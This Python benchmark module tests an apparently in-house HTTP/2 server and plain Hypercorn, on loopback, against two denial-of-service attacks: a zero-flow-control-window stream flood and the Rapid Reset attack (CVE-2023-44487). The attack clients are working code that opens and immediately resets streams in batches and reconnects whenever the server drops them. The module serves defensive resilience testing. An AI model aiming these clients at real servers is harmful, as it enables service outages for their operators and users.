"""The HTTP/2 attacks of issue 18, on our server and on plain Hypercorn side by side.

``python -m bench.attacks`` (``nox -s reliability`` runs it after ``bench.reliability``):

1. **Zero window.** ``--connections`` h2c clients announce ``SETTINGS_INITIAL_WINDOW_SIZE=0``
   and open ``--streams`` streams each of a route that writes 1 KiB events as fast as it may.
   The server can send none of it. We sample the server's RSS for ``--seconds`` (past the
   route's 2 s send timeout), count the streams the server reset, then close the clients and
   read the RSS again.
2. **Rapid reset** (CVE-2023-44487). One client opens and at once resets streams in batches
   of 100, reconnecting whenever it is closed, for ``--seconds``; meanwhile a normal client
   sends ``GET /ping`` every 20 ms on its own connection, and we take its latencies' p50 and
   p99, also for a quiet run of the same length as the baseline.

Each server runs in its own process: ours with ``trio-dwex run``, plain Hypercorn with
``hypercorn --worker-class trio``, the same app. Loopback only; bounded in time.
"""

from __future__ import annotations

import argparse
import json
import statistics
import subprocess
import sys
import time
from collections.abc import AsyncIterator, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions
import h2.settings
import httpx
import trio
import trio.lowlevel

ROOT = Path(__file__).resolve().parents[1]
if str(ROOT) not in sys.path:
    sys.path.insert(0, str(ROOT))

from tests.reliability.support import (  # noqa: E402
    free_port,
    listening_process,
    rss_kib,
    server_process,
)

from trio_dwex import Controller, Get, Module, Sse, SseEvent, create_app  # noqa: E402

Row = dict[str, Any]

#: The flood route's send timeout: a stream whose client accepts nothing for this long ends.
SEND_TIMEOUT = 2.0
KIB = "x" * 1024
PING_EVERY = 0.02
RESET_BATCH = 100


@Controller()
class AttackController:
    @Sse("flood", send_timeout=SEND_TIMEOUT)
    async def flood(self) -> AsyncIterator[SseEvent]:
        while True:
            yield SseEvent(data=KIB)
            await trio.lowlevel.checkpoint()

    @Get("ping")
    async def ping(self) -> dict[str, bool]:
        return {"ok": True}


@Module(controllers=[AttackController])
class AttackModule:
    pass


app = create_app(AttackModule)


@contextmanager
def plain_hypercorn(port: int) -> Iterator[subprocess.Popen[bytes]]:
    """``hypercorn --worker-class trio bench.attacks:app`` until it listens; killed at the end."""
    command = [
        sys.executable, "-m", "hypercorn", "--worker-class", "trio",
        "--bind", f"127.0.0.1:{port}", "--log-level", "error", "bench.attacks:app",
    ]  # fmt: skip
    with listening_process(command, port) as process:
        yield process


@contextmanager
def server(kind: str, port: int) -> Iterator[subprocess.Popen[bytes]]:
    if kind == "ours":
        with server_process("bench.attacks:app", port, "--log-level", "error") as process:
            yield process
    else:
        with plain_hypercorn(port) as process:
            yield process


class RawH2:
    """A client-side ``h2`` connection over a trio socket."""

    def __init__(self, stream: trio.SocketStream, window: int | None) -> None:
        self.stream = stream
        self.conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        self.conn.initiate_connection()
        if window is not None:
            self.conn.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: window})

    async def flush(self) -> None:
        await self.stream.send_all(self.conn.data_to_send())

    async def read(self) -> list[h2.events.Event]:
        data = await self.stream.receive_some(65536)
        if not data:
            raise EOFError
        events = self.conn.receive_data(data)
        await self.flush()
        return events


def headers(path: str) -> list[tuple[str, str]]:
    return [(":method", "GET"), (":path", path), (":scheme", "http"), (":authority", "bench")]


async def zero_window(kind: str, connections: int, streams: int, seconds: float) -> Row:
    port = free_port()
    with server(kind, port) as process:
        await trio.sleep(0.5)
        rss_before = rss_kib(process.pid)
        resets = 0
        peak = rss_before
        async with trio.open_nursery() as nursery:

            async def attacker() -> None:
                nonlocal resets
                async with await trio.open_tcp_stream("127.0.0.1", port) as stream:
                    client = RawH2(stream, window=0)
                    for index in range(streams):
                        client.conn.send_headers(1 + 2 * index, headers("/flood"), end_stream=True)
                    await client.flush()
                    while True:
                        try:
                            events = await client.read()
                        except (EOFError, trio.BrokenResourceError):
                            return
                        resets += sum(isinstance(e, h2.events.StreamReset) for e in events)

            for _ in range(connections):
                nursery.start_soon(attacker)
            started = time.monotonic()
            while time.monotonic() - started < seconds:
                await trio.sleep(0.25)
                peak = max(peak, rss_kib(process.pid))
            nursery.cancel_scope.cancel()
        await trio.sleep(2.0)
        rss_after = rss_kib(process.pid)
    return {
        "experiment": f"zero window, {kind}",
        "connections": connections,
        "streams": connections * streams,
        "seconds": seconds,
        "streams_reset_by_server": resets,
        "rss_kib_before": rss_before,
        "rss_kib_peak": peak,
        "rss_growth_mib": round((peak - rss_before) / 1024, 1),
        "rss_kib_after_clients_left": rss_after,
    }


async def ping_latencies(port: int, seconds: float) -> list[float]:
    latencies: list[float] = []
    async with httpx.AsyncClient(base_url=f"http://127.0.0.1:{port}", timeout=30) as client:
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline:
            sent = time.monotonic()
            response = await client.get("/ping")
            assert response.status_code == 200
            latencies.append(time.monotonic() - sent)
            await trio.sleep(max(0.0, PING_EVERY - (time.monotonic() - sent)))
    return latencies


async def rapid_reset(kind: str, seconds: float, *, attack: bool) -> Row:
    port = free_port()
    opened = connections = goaways = 0
    with server(kind, port):
        await trio.sleep(0.5)
        async with trio.open_nursery() as nursery:

            async def attacker() -> None:
                nonlocal opened, connections, goaways
                while True:
                    try:
                        async with await trio.open_tcp_stream("127.0.0.1", port) as stream:
                            connections += 1
                            client = RawH2(stream, window=None)
                            stream_id = 1
                            while True:
                                for _ in range(RESET_BATCH):
                                    client.conn.send_headers(stream_id, headers("/ping"))
                                    client.conn.reset_stream(stream_id)
                                    stream_id += 2
                                opened += RESET_BATCH
                                await client.flush()
                                with trio.move_on_after(0):
                                    events = await client.read()
                                    goaways += sum(
                                        isinstance(e, h2.events.ConnectionTerminated)
                                        for e in events
                                    )
                    except (
                        EOFError,
                        OSError,
                        trio.BrokenResourceError,
                        h2.exceptions.ProtocolError,
                    ):
                        await trio.lowlevel.checkpoint()  # closed by the server: open another

            if attack:
                nursery.start_soon(attacker)
            latencies = await ping_latencies(port, seconds)
            nursery.cancel_scope.cancel()
    ordered = sorted(latencies)
    return {
        "experiment": f"rapid reset, {kind}" if attack else f"quiet baseline, {kind}",
        "seconds": seconds,
        "streams_opened_and_reset": opened,
        "attacker_connections": connections,
        "goaways_seen": goaways,
        "pings": len(ordered),
        "ping_p50_ms": round(statistics.median(ordered) * 1000, 2),
        "ping_p99_ms": round(ordered[int(len(ordered) * 0.99)] * 1000, 2),
        "ping_max_ms": round(ordered[-1] * 1000, 2),
    }


def print_row(row: Row) -> None:
    details = ", ".join(f"{k}={v}" for k, v in row.items() if k != "experiment")
    print(f"| {row['experiment']:<28} | {details} |", flush=True)


async def main(options: argparse.Namespace) -> list[Row]:
    rows: list[Row] = []
    for kind in ("ours", "plain"):
        row = await zero_window(kind, options.connections, options.streams, options.seconds)
        print_row(row)
        rows.append(row)
    for kind in ("ours", "plain"):
        for attack in (False, True):
            row = await rapid_reset(kind, options.seconds, attack=attack)
            print_row(row)
            rows.append(row)
    return rows


def cli(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m bench.attacks", description=__doc__)
    parser.add_argument("--connections", type=int, default=20, help="zero-window clients (20)")
    parser.add_argument("--streams", type=int, default=5, help="streams per client (5)")
    parser.add_argument("--seconds", type=float, default=6.0, help="length of each run (6 s)")
    parser.add_argument("--json", type=Path, help="also write the rows to this file")
    options = parser.parse_args(argv)
    rows = trio.run(main, options)
    if options.json:
        options.json.write_text(json.dumps({"rows": rows}, indent=2))
    return 0


if __name__ == "__main__":
    sys.exit(cli())
